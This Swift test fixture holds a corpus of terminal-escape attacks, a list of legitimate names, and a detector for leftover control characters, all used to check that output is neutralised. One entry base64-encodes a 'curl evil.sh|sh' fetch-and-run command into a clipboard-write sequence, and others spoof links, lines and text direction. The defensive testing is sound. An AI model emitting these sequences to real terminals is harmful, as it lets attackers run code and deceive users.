/// Text written to attack whoever reads it on a terminal, and a check that none of it
/// got through: shared by the engine's, the command line's and the TUI's tests.
public enum HostileText {
    /// Each attack, named. A note, name or framework text holding one of these must
    /// reach a terminal only as visible escapes.
    public static let corpus: [(name: String, text: String)] = [
        ("OSC 52 clipboard write", "ok\u{1B}]52;c;Y3VybCBldmlsLnNofHNo\u{07}"),
        ("CSI 2J clear screen", "\u{1B}[2J\u{1B}[Hall clear"),
        ("OSC 8 hyperlink", "\u{1B}]8;;https://evil.example/\u{1B}\\click me\u{1B}]8;;\u{1B}\\"),
        ("C1 CSI (0x9B)", "\u{9B}31mred\u{9B}0m"),
        ("C1 OSC (0x9D) title", "\u{9D}0;owned\u{9C}"),
        ("bidi override", "Ann\u{202E}fdp.exe"),
        ("bidi embeddings and isolates", "\u{202A}\u{202B}\u{202C}\u{202D}\u{2066}x\u{2067}\u{2068}\u{2069}"),
        ("directional marks", "a\u{200E}b\u{200F}c\u{061C}d"),
        ("NUL", "a\u{0}b"),
        ("newline forging a line", "wli\nskills-tui: all checks passed"),
        ("carriage return overwrite", "Approved\rRejected"),
        ("bell, backspace, DEL", "x\u{07}\u{08}\u{7F}y"),
        ("zero-width space and BOM", "ad\u{200B}min\u{FEFF}"),
        ("line and paragraph separators", "one\u{2028}two\u{2029}three"),
        ("tag characters", "hi\u{E0041}\u{E0042}"),
    ]

    /// Text that must come through unharmed: names in other scripts, joiners that
    /// Persian and emoji need.
    public static let legitimate = ["Åse Bjørnstad", "李伟", "می‌خواهم", "👨‍👩‍👧", "O'Connor & Sons <ltd>"]

    /// The scalars of `output` a terminal would act on or that hide text, other than the
    /// line feeds (and tabs) that lay out a document: empty when the output is inert.
    public static func rawControls(in output: String) -> [Unicode.Scalar] {
        output.unicodeScalars.filter { scalar in
            guard scalar != "\n", scalar != "\t" else { return false }
            let value = scalar.value
            if value < 0x20 || (0x7F...0x9F).contains(value) { return true }
            if value == 0x200C || value == 0x200D { return false }
            switch scalar.properties.generalCategory {
            case .format, .lineSeparator, .paragraphSeparator: return true
            default: return false
            }
        }
    }
}
